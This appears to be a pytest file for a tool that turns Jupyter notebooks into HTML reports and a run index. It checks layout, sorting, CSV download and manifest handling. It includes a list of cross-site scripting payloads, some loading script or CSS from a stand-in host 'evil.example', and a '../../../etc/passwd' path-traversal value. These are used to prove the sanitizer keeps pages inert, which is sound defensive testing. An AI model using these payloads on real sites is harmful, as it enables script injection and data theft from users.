"""The pages a reader opens: complete, navigable, and dead to whatever data may carry."""

import base64
import hashlib
import json
import os
import re
import time
from html.parser import HTMLParser
from urllib.parse import unquote

import nbformat
import pytest
from browser import barriers, visit
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output
from toy import HEADLINE, manifests, write_notebook

from papermill_chain.chain.stages import Stage
from papermill_chain.cli import main
from papermill_chain.reports.index import pictures_of, write_index
from papermill_chain.reports.notebook_report import render
from papermill_chain.runs.changes import Changes, Moved, changes_by_run
from papermill_chain.runs.figures import Figure
from papermill_chain.runs.manifest import read_runs

PIXEL = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ"
    "AAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
ERROR = {
    "cell": 3,
    "heading": "Read the file",
    "ename": "ValueError",
    "evalue": "row 17: Age is -5",
}
ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/p.png'>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='javascript&#58alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<td style='background:url(https://evil.example/x)' onclick=alert(1)>1</td>",
    "<form action=https://evil.example><button formaction='javascript:alert(1)'>x</button></form>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "</details></main></script></style></title><script>alert(1)</script>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'><base href=https://evil.example>",
    (
        "[x](javascript:alert(1)) ![x](https://evil.example/p.png)"
        ' <https://e.example/" onclick=alert(1)>'
    ),
]


class Page(HTMLParser):
    """The elements of a page with their attributes, and the text inside script and style."""

    def __init__(self, path):
        super().__init__()
        self.source = path.read_text(encoding="utf-8")
        self.elements = []
        self.scripts = []
        self.styles = []
        self.feed(self.source)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data):
        last = self.elements[-1][0] if self.elements else None
        if self.cdata_elem == "script" and last == "script":
            self.scripts.append(data)
        if self.cdata_elem == "style" and last == "style":
            self.styles.append(data)

    def all(self, tag):
        return [attrs for name, attrs in self.elements if name == tag]

    def ids(self):
        return [attrs["id"] for _, attrs in self.elements if "id" in attrs]

    def hrefs(self):
        return [attrs["href"] for attrs in self.all("a") if "href" in attrs]


def assert_inert(page):
    """Nothing on the page runs but our own script, and nothing is fetched."""
    tags = {tag for tag, _ in page.elements}
    assert len(page.scripts) == len(page.all("script")) == 1 and page.all("script") == [{}]
    assert len(page.styles) == len(page.all("style")) == 1
    assert "evil" not in page.styles[0] and "alert" not in page.scripts[0]
    assert not tags & {"foreignobject", "math", "iframe", "form", "link", "base", "object", "embed"}
    for tag, attrs in page.elements:
        assert not [name for name in attrs if name.startswith("on")], (tag, attrs)
        assert "url(" not in (attrs.get("style") or "").replace("url(#drawing-", "")
        assert (attrs.get("src") or "data:image/").startswith("data:image/")
    for href in page.hrefs():
        scheme = re.match(r"[\s\x00-\x20]*([^/#?]*?):", href)
        assert scheme is None or scheme[1] in {"http", "https", "mailto"}, href
    assert [meta["http-equiv"] for meta in page.all("meta") if "http-equiv" in meta] == [
        "Content-Security-Policy"
    ]


def html_output(html):
    return new_output("display_data", {"text/html": html, "text/plain": "a table"})


def markdown_output(text, **more):
    return new_output("display_data", {"text/markdown": text, **more})


def notebook(*cells):
    about = {"language_info": {"name": "python", "pygments_lexer": "ipython3"}}
    return new_notebook(cells=list(cells), metadata=about)


@pytest.fixture
def report(tmp_path):
    """A function that renders a notebook and reads the page."""

    def rendered(nb, **told):
        defaults = {
            "title_of_run": "Base case",
            "run_id": "20260101-120000",
            "reports": {},
            "changed": {},
            "data": {},
            "reads": {},
            "pages": {},
            "figures": {},
            "verdict": "",
            "error": None,
        }
        nbformat.write(nb, tmp_path / "02_preparation.ipynb")
        path = tmp_path / "02_preparation.html"
        render(tmp_path / "02_preparation.ipynb", path, **(defaults | told))
        return Page(path)

    return rendered


@pytest.fixture
def a_report(report):
    """The page of a small notebook with one of everything."""
    figure = new_output(
        "display_data",
        {"image/png": PIXEL, "text/plain": "<Figure>"},
        metadata={"image/png": {"alt": 'Two "bars": 700 good, 300 bad', "width": 690}},
    )
    table = (
        "<table><caption>By purpose</caption>"
        "<thead><tr><th></th><th>purpose</th><th>n</th></tr></thead>"
        "<tbody><tr><th>0</th><td>car</td><td>1,337</td></tr><tr><th>1</th><td>TV</td><td>280</td></tr></tbody></table>"
    )
    headline = {"application/vnd.chain.headline+json": {"text": "secret twin", "figures": {}}}
    warning = new_output(
        "stream", name="stderr", text="\x1b[31mConvergenceWarning\x1b[0m: 100 steps\n"
    )
    return report(
        notebook(
            new_markdown_cell(
                "# Who repays?\n\n> A first look at 1000 loans.\n\nYou will learn much."
            ),
            new_code_cell("seed: int = 7  # why", metadata={"tags": ["parameters"]}),
            new_code_cell("seed = 11", metadata={"tags": ["injected-parameters"]}),
            new_code_cell("plot(loans)", outputs=[figure, html_output(table), warning]),
            new_markdown_cell(
                "## What's **missing**?\n\nIt costs $5 or $x_1 * x_2$.\n\n### Detail"
            ),
            new_code_cell("headline('x')", outputs=[markdown_output("AUC **0.766**", **headline)]),
            new_markdown_cell(
                "## Next\n\n[03](03_comparison.ipynb) [s](./01_eda.ipynb#Risk) [up](#Next)"
                " [doi](https://doi.org/10.24432/C5NC77)\n\n## Next"
            ),
        ),
        reports={"01_eda": "Look", "02_preparation": "Split", "03_comparison": "Compare"},
        changed={"seed": 11},
    )


def test_a_report_shows_its_cells_as_a_reader_wants_them(a_report):
    page = a_report.source
    assert a_report.all("img") == [
        {
            "src": f"data:image/png;base64,{PIXEL}",
            "alt": 'Two "bars": 700 good, 300 bad',
            "width": "690",
        }
    ]
    folds = [attrs for attrs in a_report.all("details") if "code" in attrs["class"]]
    assert len(folds) == 4 and not any("open" in attrs for attrs in folds)
    summaries = re.findall(r"<summary>([^<]*)</summary>", page)
    assert summaries == ["Contents", "Parameters", "Parameters of this run", "Code", "Code"]
    assert "<caption>By purpose</caption>" in page and 'aria-label="By purpose"' in page
    assert '<th class="number">n</th>' in page and '<td class="number">1,337</td>' in page
    assert '<td class="word">car</td>' in page
    assert "ConvergenceWarning" in page and "\x1b" not in page
    assert "<p>AUC <strong>0.766</strong></p>" in page and "secret twin" not in page
    assert "$x_1 * x_2$" in page


def test_a_table_is_sorted_by_its_heads_and_taken_along_as_csv(report, tmp_path, browser):
    rows = [("a, b", "0.71 (0.61 to 0.81)"), ("c", "0.9 (0.8 to 1.0)"), ("d", ""), ("e", "−0.1")]
    cells = "".join(f"<tr><td>{name}</td><td>{value}</td></tr>" for name, value in rows)
    head = "<thead><tr><th>model</th><th>auc</th></tr></thead>"
    table = html_output(f"<table>{head}<tbody>{cells}</tbody></table>")
    page = report(notebook(new_code_cell("1", outputs=[table])))
    assert page.source.count('<td class="number interval">') == 4
    assert "0.71 (0.61\xa0to\xa00.81)" in page.source  # an interval is not broken over lines
    with visit(browser, tmp_path / "02_preparation.html") as shown:
        names = lambda: shown.locator("tbody td:first-child").all_inner_texts()
        auc = shown.get_by_role("button", name="auc")
        auc.click()
        assert names() == ["e", "a, b", "c", "d"]
        auc.press("Enter")
        assert names() == ["c", "a, b", "e", "d"]
        with shown.expect_download() as download:
            shown.get_by_role("link", name="Table 1 as CSV").click()
        assert download.value.suggested_filename == "02_preparation-1.csv"
        assert download.value.path().read_text("utf-8").splitlines() == [
            "model,auc",
            '"a, b",0.71 (0.61 to 0.81)',
            "c,0.9 (0.8 to 1.0)",
            "d,",
            "e,−0.1",
        ]


def test_the_result_stands_first_and_once(report):
    said = {"application/vnd.chain.headline+json": {"text": "twin", "figures": {}}}
    shown = [markdown_output("- a detail"), markdown_output("It holds.", **said)]
    cells = [
        new_markdown_cell("# Does it hold?\n\n## Reading"),
        new_code_cell("read()", outputs=[markdown_output("Rows are read.")]),
        new_markdown_cell("## What we found"),
        new_code_cell("headline()", outputs=shown),
    ]
    figures = {"roc_auc": Figure(0.738, 0.661, 0.815)}
    page = report(notebook(*cells), figures=figures, verdict="warning").source
    order = ['class="result warning"', "roc auc", "0.738 (0.661 to 0.815)", "It holds.", "a detail"]
    order += ["Rows are read.", "What we found</h2>", "stands at the top of this page"]
    places = [page.index(text) for text in order]
    assert places == sorted(places) and page.count("It holds.") == page.count("a detail") == 1
    assert 'id="result"' not in report(notebook(*cells[:2])).source


def test_the_figure_that_matters_stands_beside_the_result_too(report):
    """In its section the wide one and the narrow one; on top the narrow one, with names of its own.

    The mark that is used has an id: three drawings, three ids.
    """

    def svg(word):
        used = "<defs><path id='m' d='M0 0'/></defs><use href='#m'/>"
        space = "xmlns='http://www.w3.org/2000/svg'"
        return f"<svg {space} viewBox='0 0 9 9'>{used}<text>{word}</text></svg>"

    about = {"image/svg+xml": {"alt": "A curve", "narrow": svg("small"), "on_top": True}}
    data = {"image/svg+xml": svg("large"), "text/plain": "A curve"}
    curve = new_output("display_data", data=data, metadata=about)
    said = {"application/vnd.chain.headline+json": {"text": "twin", "figures": {}}}
    cells = [
        new_code_cell("draw()", outputs=[curve]),
        new_code_cell("headline()", outputs=[markdown_output("It holds.", **said)]),
    ]
    page = report(notebook(new_markdown_cell("# One"), *cells)).source
    order = [
        "It holds.",
        'class="on-top"',
        "<text>small",
        "</section>",
        "<text>large",
        "<text>small",
    ]
    places = [page.index(text, page.index("<body")) for text in order[:5]]
    assert places == sorted(places) and page.rindex(order[5]) > places[-1]
    assert len(set(re.findall(r'id="(drawing-\d+-m)"', page))) == 3
    alone = report(notebook(new_markdown_cell("# One"), cells[0])).source  # without a headline
    assert 'class="on-top"' not in alone and alone.count("<text>") == 2


def test_a_reader_finds_the_way_around(a_report):
    page = a_report.source
    assert "<h1>Who repays?</h1>" in page and page.count("<h1") == 1
    assert re.search(r'class="lead">\s*<p>A first look at 1000 loans.</p>', page)
    assert "seed = 11</code>" in page and "20260101-120000" in page
    assert {"01_eda.html", "03_comparison.html", "../../index.html"} <= set(a_report.hrefs())
    assert {"01_eda.html#Risk", "https://doi.org/10.24432/C5NC77"} <= set(a_report.hrefs())
    assert not [href for href in a_report.hrefs() if ".ipynb" in href]

    contents = re.search(r'<nav class="contents".*?</nav>', page, re.DOTALL)[0]
    assert re.findall(r">([^<]+)</a>", contents) == ["What&#39;s missing?", "Next", "Next"]
    anchors = [unquote(href) for href in re.findall(r'href="#([^"]+)"', page)]
    assert set(anchors) <= set(a_report.ids())
    assert len(a_report.ids()) == len(set(a_report.ids()))


def test_a_report_admits_no_script_but_its_own(a_report):
    assert_inert(a_report)
    (policy,) = (meta["content"] for meta in a_report.all("meta") if "http-equiv" in meta)
    digest = hashlib.sha256(a_report.scripts[0].encode()).digest()
    assert f"script-src 'sha256-{base64.b64encode(digest).decode()}';" in policy
    assert policy.startswith("default-src 'none'; img-src data:;")
    assert "http" not in a_report.styles[0] + a_report.scripts[0]


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_from_data_is_dead_in_a_report(attack, report):
    table = f"<table><caption>{attack}</caption><tbody><tr><td>{attack}</td></tr></tbody></table>"
    styler = f"<style>#T_a_row0_col0 {{color: red; background: url(https://evil.example)}}</style>{table}"
    broken = new_output(
        "error", ename=attack, evalue=attack, traceback=[f"\x1b[31m{attack}", attack]
    )
    vector = {"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg'>{attack}</svg>"}
    picture = {"image/png": f'{PIXEL}"{attack}'}
    page = report(
        notebook(
            new_markdown_cell(
                f"# {attack}\n\n> {attack}\n\n## {attack}\n\n{attack}\n\ntext {attack} text"
            ),
            new_code_cell(f"x = '''{attack}'''", metadata={"tags": ["parameters"]}),
            new_code_cell(
                "x", outputs=[html_output(attack), html_output(table), html_output(styler)]
            ),
            new_code_cell(
                "x", outputs=[markdown_output(attack), new_output("stream", text=attack)]
            ),
            new_code_cell(
                "x", outputs=[new_output("execute_result", {"text/plain": attack}), broken]
            ),
            new_code_cell("x", outputs=[new_output("display_data", vector)]),
            new_code_cell(
                "x",
                outputs=[
                    new_output("display_data", picture, metadata={"image/png": {"alt": attack}})
                ],
            ),
            new_code_cell(
                "x",
                outputs=[
                    new_output(
                        "display_data", {"application/javascript": "alert(1)", "text/plain": "x"}
                    )
                ],
            ),
        ),
        title_of_run=attack,
        run_id=attack,
        changed={attack: attack, "list": [attack]},
        error={"cell": 4, "heading": attack, "ename": attack, "evalue": attack},
    )
    assert_inert(page)
    assert page.ids().count("main") == 1


def test_colours_of_a_styled_table_survive(report):
    sheet = (
        "#T_a_row0_col0, #T_a_row1_col0"
        " { background-color: #08306b; color: #f1f1f1; position: fixed; }"
    )
    cells = "".join(
        f'<tr><td id="T_a_row{row}_col0" class="data">0.{row}</td></tr>' for row in range(2)
    )
    page = report(
        notebook(
            new_code_cell(
                "t", outputs=[html_output(f"<style>{sheet}</style><table>{cells}</table>")]
            )
        )
    )
    assert [cell["style"] for cell in page.all("td")] == [
        "background-color:#08306b;color:#f1f1f1"
    ] * 2


@pytest.mark.parametrize("killed", [False, True])
def test_a_failed_report_leads_to_the_failing_cell(killed, report):
    trace = new_output(
        "error", ename="ValueError", evalue="row 17: Age is -5", traceback=["\x1b[31mline 1"]
    )
    page = report(
        notebook(
            new_markdown_cell(
                "<span style='color:red'>An Exception was encountered</span>",
                metadata={"tags": ["papermill-error-cell-tag"]},
            ),
            new_markdown_cell("# Prepare"),
            new_markdown_cell("## Read the file"),
            new_code_cell("data.read(raw)", outputs=[] if killed else [trace]),
            new_code_cell("never()"),
        ),
        error=ERROR,
    )
    banner = page.source.index("This notebook did not finish")
    assert banner < page.source.index('id="main"')
    assert "Read the file" in page.source[banner:] and "An Exception was" not in page.source
    assert "#cell-3" in page.hrefs() and "cell-3" in page.ids()
    failing = page.source[page.source.index('id="cell-3"') : page.source.index('id="cell-4"')]
    assert ("row 17: Age is -5" in failing) is not killed
    assert ('<details class="code" open' in failing) is not killed


def test_a_page_is_written_whole_or_not_at_all(tmp_path, report, monkeypatch):
    report(notebook(new_markdown_cell("# First")))
    before = (tmp_path / "02_preparation.html").read_bytes()

    def full(*paths):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "replace", full)
    with pytest.raises(OSError, match="No space left"):
        report(notebook(new_markdown_cell("# Second")))
    assert (tmp_path / "02_preparation.html").read_bytes() == before
    assert sorted(path.name for path in tmp_path.iterdir()) == [
        "02_preparation.html",
        "02_preparation.ipynb",
    ]


def keep_run(experiments, run, started, figures=None, **changes):
    """Keep a run on disk as the runner does: a manifest, and a report for its first stage.

    The first stage has the figures, if any are given.
    """
    folder = experiments / "runs" / run
    folder.mkdir(parents=True)
    (folder / "01_eda.html").write_text("a report")
    stage = {"seconds": 21.3, "headline": "30 % went bad.", "error": None}
    eda = stage | {
        "name": "01_eda",
        "title": "Who repays?",
        "status": "succeeded",
        "report": "01_eda.html",
        "figures": {"roc_auc": 0.776123},
    }
    late = stage | {
        "name": "05_validation",
        "title": "Good enough?",
        "status": "not run",
        "report": None,
    }
    manifest = {
        "id": run,
        "title": f"Title of {run}",
        "started": started,
        "finished": None,
        "seconds": 131.4,
        "status": "succeeded",
        "git": {"commit": "2dec4af0123456789", "dirty": True},
        "python": "3.11.2",
        "platform": "Linux",
        "lock": None,
        "parameters": {"cost_bad": 8.0},
        "after": None,
        "stages": [eda, late],
    }
    manifest |= changes
    if figures is not None:
        manifest["stages"][0]["figures"] = figures
    (folder / "manifest.json").write_text(json.dumps(manifest))


def test_the_index_lists_runs_newest_first(tmp_path):
    keep_run(tmp_path, "a", "2026-01-03T12:00:00+00:00")
    stopped = {"name": "02_preparation", "title": "Split", "status": "failed", "error": ERROR}
    keep_run(tmp_path, "b", "2026-01-01T12:00:00Z", status="failed", stages=[stopped])
    keep_run(tmp_path, "c", "2026-01-02T12:00:00+00:00", git=None, figures={}, seconds=None)
    index = write_index(tmp_path, "All runs & more")
    page = Page(index)
    assert_inert(page)
    assert index == tmp_path / "index.html"
    assert "<title>All runs &amp; more</title>" in page.source
    assert [id for id in page.ids() if id.startswith("run-")] == ["run-a", "run-c", "run-b"]
    card = page.source[page.source.index("Latest run") : page.source.index('id="all"')]
    for shown in (
        "Title of a",
        "30 % went bad.",
        "2dec4af012 with local changes",
        "cost_bad = 8.0",
        "0.7761",
        "21 s",
        "not run",
    ):
        assert shown in card
    assert "runs/a/01_eda.html" in page.hrefs() and "runs/c/01_eda.html" in page.hrefs()
    assert '<span class="status failed">' in page.source


@pytest.mark.parametrize(
    "broken",
    [
        "",
        "{",
        "[]",
        "null",
        "{}",
        '{"id": 1, "started": 5}',
        "\x00",
        '{"id": "x", "started": "2026-13-01"}',
    ],
)
def test_a_broken_manifest_is_listed_as_unreadable(broken, tmp_path):
    keep_run(tmp_path, "whole", "2026-01-01T12:00:00+00:00")
    (tmp_path / "runs" / "torn").mkdir()
    (tmp_path / "runs" / "torn" / "manifest.json").write_text(broken)
    page = Page(write_index(tmp_path, "All runs"))
    # it is the newest by the time of its file, and the run on top is one that can be read
    assert [id for id in page.ids() if id.startswith("run-")] == ["run-torn", "run-whole"]
    card = page.source.index("Latest run")
    assert (
        page.source.index("cannot be read: manifest.json")
        < card
        < page.source.index("Title of whole")
    )
    assert '<span class="status unreadable">' in page.source


@pytest.mark.parametrize(
    "half",
    [{"stages": [{}]}, {"stages": None}, {"seconds": float("nan")}, {"figures": [1]}, {"git": "x"}],
)
def test_a_half_manifest_is_listed_as_unreadable(half, tmp_path):
    keep_run(tmp_path, "torn", "2026-01-01T12:00:00+00:00", **half)
    page = Page(write_index(tmp_path, "All runs"))
    assert '<span class="status unreadable">' in page.source and "Latest run" not in page.source


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_from_a_manifest_is_dead_in_the_index(attack, tmp_path):
    told = {"ename": attack, "evalue": attack, "heading": attack}
    stage = {"name": attack, "title": attack, "status": attack, "headline": attack, "error": told}
    evil = {
        "title": attack,
        "status": attack,
        "git": {"commit": attack},
        "platform": attack,
        "parameters": {attack: attack},
        "figures": {attack: attack},
        "after": attack,
        "stages": [
            stage | {"report": "javascript:alert(1)"},
            stage | {"report": "../../../etc/passwd"},
        ],
    }
    for run in ("one", "two"):
        keep_run(tmp_path, run, "2026-01-01T12:00:00+00:00", **evil)
    keep_run(tmp_path, "three", attack)
    page = Page(write_index(tmp_path, attack))
    assert_inert(page)
    assert not [href for href in page.hrefs() if "passwd" in href or "javascript" in href]


def test_an_index_of_no_runs_says_so(tmp_path):
    assert "No run yet" in write_index(tmp_path, "All runs").read_text(encoding="utf-8")


A_STAGE = {"title": "T", "seconds": 1.0, "headline": "", "error": None, "report": None}


def told_stage(name, status="succeeded", *, data="", **told):
    """A stage in a manifest; `data` is the hash of raw.csv, from which 1 makes train.csv for 2."""
    basis = {"notebook": "n1", "code": {"lib/a.py": "a1"}, "lock": "l1", "python": "3.11.2"}
    reads = {"1": {"data/raw.csv": data}, "2": {"data/train.csv": f"from {data}"}}[name]
    writes = {"data/train.csv": f"from {data}"} if name == "1" else {}
    files = {"reads": reads, "writes": writes} if data else {}
    parameters = {"seed": 7, "raw": "../data/raw.csv"}
    told = {"basis": basis, "parameters": parameters, **files} | told
    return A_STAGE | {"name": name, "status": status} | told


def test_a_run_tells_what_it_changed(tmp_path):
    git, later = {"commit": "1111111111ff", "dirty": False}, {"commit": "2222222222ff"}
    roc = {"value": 0.757, "low": 0.681, "high": 0.833}
    figures = {"roc": roc, "cost": {"value": 0.625}, "champion": {"value": "Forest"}, "rows": 800}
    keep_run(
        tmp_path,
        "a",
        "2026-01-01T12:00:00Z",
        git=git,
        figures=figures,
        stages=[told_stage("1", data="d1"), told_stage("2", data="d1")],
    )
    # another seed and file, code and Python of one stage; the train.csv made of it is no news
    code = {"lib/a.py": "a2", "lib/b.py": "b1"}
    new = {
        "basis": {"notebook": "n2", "code": code, "lock": "l1", "python": "3.12.0"},
        "parameters": {"seed": 8, "raw": "../data/raw.csv", "new": 1},
    }
    better = {"roc": roc | {"value": 0.768}, "cost": 0.6, "champion": "Blend", "rows": 900}
    keep_run(
        tmp_path,
        "b",
        "2026-01-02T12:00:00Z",
        git=later,
        figures=better,
        stages=[told_stage("1", data="d2"), told_stage("2", data="d2", **new)],
    )
    # it fails at once, and knows no figure and no hash
    keep_run(
        tmp_path,
        "c",
        "2026-01-03T12:00:00Z",
        status="failed",
        git=later,
        figures={},
        stages=[told_stage("1", "failed"), told_stage("2", "not run", **new)],
    )
    keep_run(tmp_path, "torn", "nonsense")
    # one stage alone; what it reads has been made anew by nobody
    keep_run(
        tmp_path,
        "d",
        "2026-01-04T12:00:00Z",
        git=later,
        figures={"cost": 0.61},
        stages=[told_stage("2", data="d2", **new)],
    )
    keep_run(
        tmp_path,
        "e",
        "2026-01-05T12:00:00Z",
        git=later,
        figures={"cost": 0.61},
        stages=[told_stage("1", data="d1"), told_stage("2", data="d1", **new)],
    )

    assert changes_by_run(read_runs(tmp_path)) == {
        "a": None,
        "b": Changes(
            parameters=[("seed", 7, 8)],
            data=[("data/raw.csv", "d1", "d2")],
            code=["notebook 2", "lib/a.py", "lib/b.py", "Python 3.11.2 → 3.12.0"],
            commit=("1111111111", "2222222222"),
            figures={
                "roc": Moved(Figure(0.757, 0.681, 0.833), "+0.011"),  # .768 - .757
                "cost": Moved(Figure(0.625), "−0.025"),  # .6 - .625
                "champion": Moved(Figure("Forest")),
                "rows": Moved(Figure(800)),
            },
        ),
        "c": Changes(),
        "d": Changes(figures={"cost": Moved(Figure(0.6), "+0.01")}),
        "e": Changes(data=[("data/raw.csv", "d2", "d1")]),
    }
    page = write_index(tmp_path, "All runs").read_text("utf-8")
    row = page[page.index('id="run-b"') : page.index('id="run-a"')]
    told = (
        "seed: 7 → 8",
        "lib/b.py",
        "1111111111 → 2222222222",
        "+0.011 from 0.757 (0.681 to 0.833)",
        "was Forest",
    )
    for shown in told:
        assert shown in row
    assert re.search(r"data raw.csv: <code [^>]*>d1</code> → <code [^>]*>d2</code>", row)


def test_the_last_good_run_stands_above_a_newer_one_that_failed(tmp_path):
    keep_run(tmp_path, "good", "2026-01-01T12:00:00Z")
    stopped = A_STAGE | {"name": "1", "title": "Split", "status": "failed", "error": ERROR}
    told = {"stages": [stopped | {"report": "01_eda.html"}], "troubles": ["the disk is full"]}
    keep_run(tmp_path, "bad", "2026-01-02T12:00:00Z", status="failed", **told)
    page = write_index(tmp_path, "All runs").read_text("utf-8")
    good, latest = page.index("Last good run"), page.index("Latest run")
    assert good < page.index("runs/good/") < latest < page.index('id="all"')
    top = page[latest : page.index("<ol", latest)]
    assert "<strong>Split</strong> failed." in top and "row 17: Age is -5" in top
    assert 'href="runs/bad/01_eda.html"' in top and 'href="#run-good"' in top
    assert "the disk is full" in top


def test_the_index_fits_screen_and_phone_and_has_the_columns_that_were_asked_for(tmp_path, browser):
    figures = {name: {"value": 0.7, "low": 0.61, "high": 0.79} for name in "abcdefgh"}
    figures |= {"gate": "stopped, 2 warnings"}
    stages = [
        A_STAGE | {"name": name, "status": "not run"} for name in ("01_eda", "02_preparation")
    ]
    keep_run(tmp_path, "one", "2026-01-01T12:00:00Z", figures=figures)
    keep_run(tmp_path, "two", "2026-01-02T12:00:00Z", figures=figures)
    keep_run(tmp_path, "now", "2026-01-03T12:00:00Z", status="running", stages=stages, figures={})
    (tmp_path / "comparisons").mkdir()
    (tmp_path / "comparisons/one_two.html").write_text("<!doctype html>")
    index = write_index(tmp_path, "Title of two", columns=["gate", "c", "a", "not there"])
    with visit(browser, index) as page:
        heads = [head.replace(" ↓", "") for head in page.locator("thead th").all_inner_texts()]
        assert [head.split(" ↕")[0] for head in heads] == [
            *("Started", "Status", "gate", "c", "a", "Changed since the run before", "Pages")
        ]
        assert page.get_by_text("Title of two", exact=True).count() == 1
        assert page.locator("section.running .status", has_text="waiting").count() == 2
        assert page.get_by_role("link", name="against one").get_attribute("href") == (
            "comparisons/one_two.html"
        )
        table = page.locator(".table")
        assert table.evaluate("each => each.scrollWidth - each.clientWidth") == 0
        first = page.locator("tbody th").first
        assert first.evaluate("each => getComputedStyle(each).position") == "sticky"
        page.set_viewport_size({"width": 390, "height": 800})
        assert table.evaluate("each => each.scrollWidth - each.clientWidth") == 0
        assert not page.locator("thead").is_visible() and not barriers(page)


def keep_many(experiments):
    """Runs whose figure is 10, 9, none, 0.5 and 0.5, the newest first; the middle one failed."""
    for day, cost in enumerate([0.5, 0.5, None, 9, 10.0], start=1):
        figures = {"roc": 0.7, **({} if cost is None else {"cost": cost})}
        told = {"status": "succeeded" if cost else "failed", "figures": figures}
        keep_run(experiments, f"r{day}", f"2026-01-0{day}T12:00:00Z", **told)


def shown_runs(page):
    return [
        row.removeprefix("r")
        for row in page.locator("tr[data-run]").evaluate_all(
            "rows => rows.map(row => row.dataset.run)"
        )
    ]


def test_the_history_is_sorted_by_click_and_by_key(tmp_path, browser):
    keep_many(tmp_path)
    with visit(browser, write_index(tmp_path, "All runs")) as page:
        assert shown_runs(page) == ["5", "4", "3", "2", "1"] and page.locator("input").count() == 0
        cost = page.get_by_role("button", name="cost")
        cost.click()
        assert shown_runs(page) == ["2", "1", "4", "5", "3"]  # 9 before 10; without a figure last
        cost.press("Enter")
        assert shown_runs(page) == ["5", "4", "2", "1", "3"]
        sorted_by = page.locator("th[aria-sort]")
        assert sorted_by.count() == 1 and sorted_by.get_attribute("aria-sort") == "descending"
        page.get_by_role("button", name="Status").press("Space")
        assert shown_runs(page)[0] == "3"  # the failed one
        page.get_by_role("button", name="Started").click()
        assert shown_runs(page) == ["1", "2", "3", "4", "5"]
    with visit(browser, tmp_path / "index.html", java_script_enabled=False) as page:
        assert page.locator("tr[data-run]").count() == 5 and page.locator("th button").count() == 0


def test_two_runs_are_chosen_to_be_compared(tmp_path, browser):
    keep_many(tmp_path)
    for page in ("comparisons/r1_r2.html", "grids/g 1/index.html"):
        (tmp_path / page).parent.mkdir(parents=True)
        (tmp_path / page).write_text("<!doctype html><title>made before</title>")
    with visit(browser, write_index(tmp_path, "All runs", "compare {a} {b}")) as page:
        page.get_by_role("link", name="g 1").click()
        assert page.title() == "made before"
        page.go_back()
        choose = lambda run: page.get_by_label(f"Compare run r{run}").press("Space")
        assert page.get_by_text("Choose two runs").is_visible()
        choose(5), choose(2)
        assert page.locator("#command").inner_text() == "compare r2 r5"  # the older first
        assert not page.locator("#open").is_visible()
        choose(1)  # instead of 5, which was chosen first
        assert not page.get_by_label("Compare run r5").is_checked()
        assert not page.locator("#command").is_visible()
        page.get_by_role("link", name="Compare r1 with r2").click()
        assert page.title() == "made before"


def test_what_data_holds_runs_nowhere_in_a_browser(tmp_path, browser):
    for number, attack in enumerate(ATTACKS):
        another = {attack: f"{attack}{number}"}  # it has changed since the run before
        stage = told_stage("1", attack, title=attack, headline=attack, kept={attack: attack})
        stage |= {"parameters": another, "reads": another}
        told = {"id": f"r{number}{attack}", "title": attack, "parameters": another}
        keep_run(
            tmp_path,
            f"r{number}",
            "2026-01-01T12:00:00Z",
            **told,
            stages=[stage],
            figures={"f": f"{attack}{number}", **another},
        )
    index = write_index(tmp_path, ATTACKS[0], f"compare {{a}} {{b}} {ATTACKS[0]}")
    with visit(browser, index) as page:
        for button in page.locator("thead button").all():
            button.click()
        for box in page.locator("tbody input").all()[:3]:
            box.check()
        page.wait_for_timeout(100)
    assert_inert(Page(index))


def test_five_hundred_runs_are_listed_quickly_on_a_small_page(tmp_path):
    for number in range(500):
        roc = {"value": number / 1000, "low": 0.1, "high": 0.9}
        figures = {"roc": roc, "cost": number / 500, "champion": "Blend"}
        stages = [told_stage("1", data="d"), told_stage("2", data="d", parameters={"seed": number})]
        keep_run(
            tmp_path,
            f"r{number}",
            f"2026-01-01T12:{number // 60:02}:{number % 60:02}Z",
            figures=figures,
            stages=stages,
            parameters={"seed": number},
        )
    began = time.process_time()
    page = write_index(tmp_path, "All runs", "compare {a} {b}").read_text("utf-8")
    assert time.process_time() - began < 5  # about 0.3 s
    assert page.count("<tr id=") == 500 and len(page) < 800_000
    assert page.count("+0.001 from 0.") == 499 + 1  # in all rows but the first run's, and on top
    assert page.count("+0.002 from 0") == 499 + 1  # 1/500 is the cost of one run above the last


SHOW = f"""
from IPython.display import display
picture = {{"png": "{PIXEL}", "alt": "a <dot>"}}
figures = [["z", 1], ["a", 0.5]]
told = {{"text": "It is so.", "figures": figures, "picture": picture, "verdict": "stop"}}
display({{"{HEADLINE}": told, "text/plain": ""}}, raw=True)
"""
SMALL = [
    Stage("1_split", reads={"raw": "data/raw.csv"}, writes={"train": "data/train.csv"}),
    Stage(
        "2_show",
        reads={"train": "data/train.csv"},
        writes={"big_map": "out/map.html"},
        kept=["big_map"],
    ),
]


def test_a_run_shows_its_picture_its_pages_and_its_data(tmp_path, monkeypatch, capsys):
    copy = "open({}, 'w').write(open({}).read())"
    paths = 'raw: str = "../data/raw.csv"\ntrain: str = "../data/train.csv"'
    parameters = f"{paths}\nfails: bool = False"
    write_notebook(
        tmp_path / "notebooks/1_split.ipynb",
        parameters,
        copy.format("train", "raw"),
        "assert not fails, 'first line\\nsecond line'",
    )
    parameters = 'train: str = "../data/train.csv"\nbig_map: str = "../out/map.html"'
    write_notebook(
        tmp_path / "notebooks/2_show.ipynb", parameters, copy.format("big_map", "train"), SHOW
    )
    (tmp_path / "data").mkdir()
    (tmp_path / "data/raw.csv").write_text("raw")
